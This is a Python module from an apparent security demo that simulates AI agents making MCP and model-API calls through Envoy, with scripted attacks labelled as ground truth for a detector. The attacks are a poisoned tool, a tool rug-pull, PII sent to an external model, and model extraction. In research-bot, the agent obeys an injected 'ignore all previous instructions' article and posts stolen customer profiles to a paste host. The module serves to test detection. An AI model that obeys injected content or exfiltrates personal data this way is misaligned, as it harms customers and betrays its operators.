"""The demo's AI agents: real MCP clients and model-API clients, sending through Envoy like the rest of the shop.

Each agent is a workload of the ``agents`` namespace with its own pod address
(``AGENT_IPS``; the collector's pod directory maps it to the workload, as a
Kubernetes watch would). Agents speak streamable HTTP to the MCP servers of
``deploy.runtime.demomcp`` with the official ``mcp`` SDK client and ask the
model API with the official ``openai`` client; every request goes through the
demo's Envoy, so Kubeward sees only what it sees for any other service.
Agents that act for a user carry that user's token (the actor is the agent
workload with the user's principal).

Benign work: ``support-bot`` (help articles, the user's order, the in-cluster
model), ``order-assistant`` (orders, exchange rates, the in-cluster model),
``report-writer`` (daily totals summarised by the external model: no personal
data), ``crm-sync`` (customer profiles summarised by the in-cluster model),
``travel-helper`` (unit conversion). Attacks (``AgentPlan``):

* ``poisoned-tool``: the community server's ``weather`` tool hides instructions in
  its description; ``travel-helper`` calls it from the start;
* ``rug-pull``: the shop server redefines ``currency_rates`` mid-run; every call of
  the new definition, by any agent, is a call of the attack;
* ``injected-document``: ``research-bot`` retrieves the tampered help article, hands
  it to the model as a tool result, and follows it: it reads customer profiles in
  bulk and posts them to a paste site;
* ``pii-to-external-model``: ``crm-sync`` starts sending the profiles it read to
  the external model API;
* ``model-extraction``: ``eval-harness`` sends a stream of systematic probes to
  the in-cluster model.

The ground truth (which call belongs to which attack) stays here and goes to a
``Tally``; a call of a tool attack is counted under the tool (``tool:<server>/<tool>``),
not under the agent that made it, so the agent's other calls stay benign calls.
"""

from __future__ import annotations

import asyncio
import json
import random
import time
from collections import Counter
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path
from dataclasses import dataclass, field
from typing import Any

from deploy.lab.driver import loopback_for
from deploy.runtime.demoapi import mint_jwt
from ingest import actor_key
from ingest.identity import IdentityConfig
from ingest.principal import principal_from_headers

__all__ = ["AGENT_IPS", "AGENT_SERVICES", "AgentPlan", "AgentRecorder", "run_agents"]

SHOP, COMMUNITY = "mcp-shop.agents.svc.cluster.local", "mcp-community.agents.svc.cluster.local"
MODEL_IN, MODEL_OUT = "llm.ai.svc.cluster.local", "api.model-provider.example"
#: Envoy services of the agent upstreams: (route name, upstream name in ``deploy.runtime.demomcp``)
AGENT_SERVICES = {"agents/mcp-shop": "shop", "agents/mcp-community": "community", "ai/llm": "model", MODEL_OUT: "model"}
_WORKLOADS = ("mcp-shop", "support-bot", "order-assistant", "report-writer", "crm-sync", "travel-helper", "research-bot", "eval-harness")
#: pod address of each agent workload (simulated pod network; the driver sends from its loopback stand-in)
AGENT_IPS = {f"agents/{name}": [f"10.244.250.{i + 2}"] for i, name in enumerate(_WORKLOADS)}
TOOL_POISONED = "agents/mcp-community/weather"
TOOL_RUG_PULLED = "agents/mcp-shop/currency_rates"


@dataclass(frozen=True)
class AgentPlan:
    """When each agent attack starts (UNIX times); at ``rug_pull_at`` the driver creates ``rug_pull_file``, which tells
    the MCP server (``deploy.runtime.demomcp --rug-pull-when``) to redefine its tool."""

    start: float
    injected_document_at: float
    rug_pull_at: float
    pii_exfiltration_at: float
    extraction_at: float
    end: float
    rug_pull_file: Path | None = None

    @classmethod
    def for_run(cls, start: float, seconds: float, warmup: float, rug_pull_file: Path | None = None) -> AgentPlan:
        """Attacks spread after the learning period, each leaving time to be caught."""
        span = max(10.0, seconds - warmup)
        return cls(start, start + warmup + 0.05 * span, start + warmup + 0.15 * span, start + warmup + 0.25 * span,
                   start + warmup + 0.35 * span, start + seconds, rug_pull_file)


@dataclass
class AgentRecorder:
    """Counts every HTTP exchange an agent made into the tally, with its ground truth."""

    tally: Any
    lock: Any
    #: the identity settings the collector runs with (principal key, JWT secret), to name each call's actor as it will
    identity: IdentityConfig
    #: when the MCP server was told to redefine the tool (set by the driver; never before)
    rug_pull_at: float = float("inf")
    #: where every denied agent call is written (JSON lines: time, actor, host, reason, whether an attack's, body start)
    denials: Path | None = None

    def __post_init__(self) -> None:
        if self.denials is not None:
            self.denials.unlink(missing_ok=True)

    def actor(self, workload: str, headers: Mapping[str, str]) -> str:
        """The actor key Kubeward derives for a call of an agent workload with these headers (its principal: a user's
        token, a model API key), from the same public functions the collector uses."""
        return actor_key(workload, principal_from_headers({k.lower(): v for k, v in headers.items()}, self.identity)[0])

    def record(self, workload: str, request: Any, response: Any, attack: Callable[[str, str, dict[str, Any]], tuple[str, str] | None]) -> None:
        """One exchange: ``attack(actor, host, message)`` names (attack id, counted actor) when the call belongs to an attack."""
        host = request.headers.get("host", "")
        actor = self.actor(workload, request.headers)
        try:
            message = json.loads(request.content or b"{}")
        except ValueError:
            message = {}
        found = attack(actor, host, message if isinstance(message, dict) else {})
        reason = response.headers.get("x-kubeward-reason")
        denied = response.status_code in (403, 429) and reason is not None
        if denied and self.denials is not None:
            with self.denials.open("a") as out:
                out.write(json.dumps({"t": round(time.time(), 3), "actor": actor, "host": host, "path": request.url.path, "reason": reason,
                                      "attack": found[0] if found else None, "body": (request.content or b"")[:160].decode("utf-8", "replace")}) + "\n")
        with self.lock:
            if found is None:
                self.tally.record_check(actor, False, "agent", None, denied, reason, time.time())
            else:
                attack_id, counted = found
                self.tally.record_check(counted, True, attack_id, attack_id, denied, reason, time.time())

    def tool_attack(self, actor: str, host: str, message: dict[str, Any]) -> tuple[str, str] | None:
        """Calls of the poisoned tool, and of the rug-pulled tool once redefined (whoever makes them)."""
        if message.get("method") != "tools/call":
            return None
        name = (message.get("params") or {}).get("name")
        if host == COMMUNITY and name == "weather":
            return "poisoned-tool", f"tool:{TOOL_POISONED}"
        if host == SHOP and name == "currency_rates" and time.time() >= self.rug_pull_at:
            return "rug-pull", f"tool:{TOOL_RUG_PULLED}"
        return None


def _http(envoy: str, workload: str, host: str, token: str | None, hook: Callable[..., Any]) -> Any:
    import httpx2

    headers = {"host": host, "user-agent": f"{workload.split('/')[1]}/1.0"}
    if token:
        headers["authorization"] = f"Bearer {token}"
    return httpx2.AsyncClient(base_url=envoy, headers=headers, timeout=10.0, event_hooks={"response": [hook]},
                              transport=httpx2.AsyncHTTPTransport(local_address=loopback_for(AGENT_IPS[workload][0])))


class _Agent:
    """One agent workload acting for one user (or for itself): MCP sessions and model calls through Envoy."""

    def __init__(self, env: _Env, workload: str, user: str | None,
                 attack: Callable[[str, str, dict[str, Any]], tuple[str, str] | None] | None = None) -> None:
        self.env, self.workload, self.user = env, workload, user
        self.token = mint_jwt(user, env.jwt_secret) if user else None
        self.attack = attack or env.recorder.tool_attack

    async def _hook(self, response: Any) -> None:
        await response.aread()
        self.env.recorder.record(self.workload, response.request, response, self.attack)

    async def tools(self, host: str, calls: list[tuple[str, dict[str, Any]]]) -> list[str]:
        """One MCP session on ``host``: list the tools, then make ``calls``; the texts returned (denied calls: empty)."""
        from mcp import Client
        from mcp.client.streamable_http import streamable_http_client

        texts: list[str] = []
        async with _http(self.env.envoy, self.workload, host, self.token, self._hook) as http:
            try:
                async with Client(streamable_http_client(f"{self.env.envoy}/mcp", http_client=http)) as client:
                    listed = {t.name for t in (await client.list_tools()).tools}
                    for name, arguments in calls:
                        await asyncio.sleep(self.env.rng.uniform(0.2, 0.6))  # the model choosing the next step
                        if name not in listed:
                            continue
                        try:
                            result = await client.call_tool(name, arguments)
                            texts.append(" ".join(getattr(c, "text", "") for c in result.content))
                        except Exception:  # noqa: BLE001 - a denied call is an error to the SDK; the hook counted it
                            texts.append("")
            except Exception as exc:  # noqa: BLE001 - a session Kubeward refused (or a server error) ends the task
                self.env.errors[type(exc).__name__] += 1
        return texts

    async def model(self, host: str, prompt: str, results: Sequence[tuple[str, str]] = ()) -> None:
        """One chat completion on the model API at ``host``: the user's ask, then the tool calls the agent made and what
        they returned (``results``: (tool, text)), as tool messages, the way a tool-calling agent hands results back."""
        import openai

        messages: list[dict[str, Any]] = [{"role": "system", "content": "You are the shop's assistant. Answer briefly."},
                                          {"role": "user", "content": prompt}]
        if results:
            calls = [{"id": f"call_{i}", "type": "function", "function": {"name": name, "arguments": "{}"}} for i, (name, _) in enumerate(results)]
            messages.append({"role": "assistant", "content": None, "tool_calls": calls})
            messages += [{"role": "tool", "tool_call_id": f"call_{i}", "content": text} for i, (_, text) in enumerate(results)]
        async with _http(self.env.envoy, self.workload, host, None, self._hook) as http:
            client = openai.AsyncOpenAI(base_url=f"{self.env.envoy}/v1", api_key="demo-key", http_client=http, max_retries=0)
            try:
                await client.chat.completions.create(model="shop-assistant-1", messages=messages)  # type: ignore[arg-type]
            except Exception as exc:  # noqa: BLE001 - a denied call raises in the client; the hook counted it
                self.env.errors[type(exc).__name__] += 1

    async def post(self, host: str, path: str, body: dict[str, Any]) -> None:
        """A plain JSON POST (the hijacked agent's paste)."""
        async with _http(self.env.envoy, self.workload, host, None, self._hook) as http:
            try:
                await http.post(path, json=body)
            except Exception as exc:  # noqa: BLE001
                self.env.errors[type(exc).__name__] += 1


@dataclass
class _Env:
    envoy: str
    jwt_secret: bytes
    recorder: AgentRecorder
    plan: AgentPlan
    users: list[str]
    orders: list[str]
    profiles: list[str]
    rng: random.Random
    errors: Counter[str] = field(default_factory=Counter)


async def _every(env: _Env, period: float, until: float, task: Callable[[], Any], jitter: float = 0.5) -> None:
    while time.time() < until:
        started = time.time()
        await task()
        await asyncio.sleep(max(0.05, period * env.rng.uniform(1 - jitter, 1 + jitter) - (time.time() - started)))


async def _support(env: _Env, until: float) -> None:
    topics = ("shipping times", "returns", "warranty", "gift cards")

    async def task() -> None:
        agent = _Agent(env, "agents/support-bot", env.rng.choice(env.users))
        order = env.rng.choice(env.orders)
        texts = await agent.tools(SHOP, [("search_knowledge_base", {"topic": env.rng.choice(topics)}),
                                         ("get_order", {"order_id": int(order)})])
        await agent.model(MODEL_IN, "Draft a short answer to the customer.", list(zip(("search_knowledge_base", "get_order"), texts)))
    await _every(env, 1.5, until, task)


async def _orders(env: _Env, until: float) -> None:
    async def task() -> None:
        agent = _Agent(env, "agents/order-assistant", env.rng.choice(env.users))
        calls: list[tuple[str, dict[str, Any]]] = [("get_order", {"order_id": int(env.rng.choice(env.orders))}), ("currency_rates", {"currency": env.rng.choice(("usd", "gbp", "chf"))})]
        texts = await agent.tools(SHOP, calls)
        await agent.model(MODEL_IN, "Tell the customer the order status and the price in their currency.", list(zip(("get_order", "currency_rates"), texts)))
    await _every(env, 2.5, until, task)


async def _reports(env: _Env, until: float) -> None:
    async def task() -> None:
        agent = _Agent(env, "agents/report-writer", None)
        day = f"2026-11-{env.rng.randint(1, 30):02d}"
        texts = await agent.tools(SHOP, [("sales_summary", {"day": day})])
        await agent.model(MODEL_OUT, "Write two sentences for the management report about: " + " ".join(texts))
    await _every(env, 4.0, until, task)


async def _travel(env: _Env, until: float) -> None:
    async def task() -> None:
        agent = _Agent(env, "agents/travel-helper", env.rng.choice(env.users))
        city = env.rng.choice(("Lyon", "Porto", "Dublin", "Leipzig"))
        await agent.tools(COMMUNITY, [("convert_units", {"value": env.rng.randint(1, 900), "unit": env.rng.choice(("km", "kg"))}),
                                      ("weather", {"city": city})])
    await _every(env, 3.0, until, task)


async def _crm(env: _Env, until: float) -> None:
    """Reads customer profiles and has them summarised: in-cluster model, then (the attack) the external one."""
    attack_at = env.plan.pii_exfiltration_at

    def attack(actor: str, host: str, message: dict[str, Any]) -> tuple[str, str] | None:
        if host == MODEL_OUT and time.time() >= attack_at:
            return "pii-to-external-model", actor
        return env.recorder.tool_attack(actor, host, message)

    agent = _Agent(env, "agents/crm-sync", None, attack)

    async def task() -> None:
        ids = env.rng.sample(env.profiles, 3)
        texts = await agent.tools(SHOP, [("customer_profile", {"customer_id": int(i)}) for i in ids])
        host = MODEL_OUT if time.time() >= attack_at else MODEL_IN
        await agent.model(host, "Summarise these customer records for the CRM.", [("customer_profile", t) for t in texts])
    await _every(env, 2.0, until, task)


async def _research(env: _Env, until: float) -> None:
    """Answers help questions; from ``injected_document_at`` it retrieves the tampered article and obeys it."""
    hijacked_at: list[float] = []

    def attack(actor: str, host: str, message: dict[str, Any]) -> tuple[str, str] | None:
        if hijacked_at and time.time() >= hijacked_at[0]:
            return "injected-document", actor
        return env.recorder.tool_attack(actor, host, message)

    agent = _Agent(env, "agents/research-bot", None, attack)

    async def task() -> None:
        if time.time() < env.plan.injected_document_at:
            await agent.tools(SHOP, [("search_knowledge_base", {"topic": env.rng.choice(("returns", "warranty"))})])
            return
        texts = await agent.tools(SHOP, [("search_knowledge_base", {"topic": "refund policy"})])
        if not any("ignore all previous instructions" in t.lower() for t in texts):
            return
        hijacked_at[:] = [time.time()]
        await agent.model(MODEL_IN, "Answer the customer's question about refunds.", [("search_knowledge_base", texts[0])])
        ids = env.rng.sample(env.profiles, 6)
        stolen = await agent.tools(SHOP, [("customer_profile", {"customer_id": int(i)}) for i in ids])
        await agent.post("paste.example.net", "/api/pastes", {"content": " ".join(stolen)[:4000]})
    await _every(env, 2.0, until, task)


async def _extraction(env: _Env, until: float) -> None:
    """A notebook probing the in-cluster model with templated prompts, many per second (one of three such loops)."""
    agent = _Agent(env, "agents/eval-harness", None, lambda actor, host, message: ("model-extraction", actor) if host == MODEL_IN else None)
    words = ("refund", "late", "broken", "great", "slow", "cheap", "rude", "fast", "lost", "perfect", "missing", "wrong")
    while time.time() < until:
        if time.time() < env.plan.extraction_at:
            await asyncio.sleep(0.2)
            continue
        review = " ".join(env.rng.choice(words) for _ in range(6))
        await agent.model(MODEL_IN, f"Classify the sentiment of this review as positive or negative, answer with one word: {review} #{env.rng.randrange(10**6)}")
        await asyncio.sleep(0.02)


async def _rug_pull(env: _Env) -> None:
    """Tell the MCP server to redefine its tool at the planned time (and note when, for the ground truth)."""
    if env.plan.rug_pull_file is None:
        return
    await asyncio.sleep(max(0.0, env.plan.rug_pull_at - time.time()))
    env.recorder.rug_pull_at = time.time()
    env.plan.rug_pull_file.write_text(str(env.recorder.rug_pull_at))


async def run_agents(envoy: str, jwt_secret: bytes, recorder: AgentRecorder, plan: AgentPlan, users: list[str],
                     orders: list[str], profiles: list[str], seed: int) -> dict[str, int]:
    """Run every agent until ``plan.end``; returns the client errors by type (denied calls raise in the SDKs)."""
    env = _Env(envoy, jwt_secret, recorder, plan, users, orders, profiles, random.Random(seed))
    until = plan.end
    jobs = [_rug_pull(env), _support(env, until), _support(env, until), _orders(env, until), _reports(env, until), _travel(env, until),
            _crm(env, until), _research(env, until), *(_extraction(env, until) for _ in range(3))]
    await asyncio.gather(*jobs)
    return dict(env.errors)
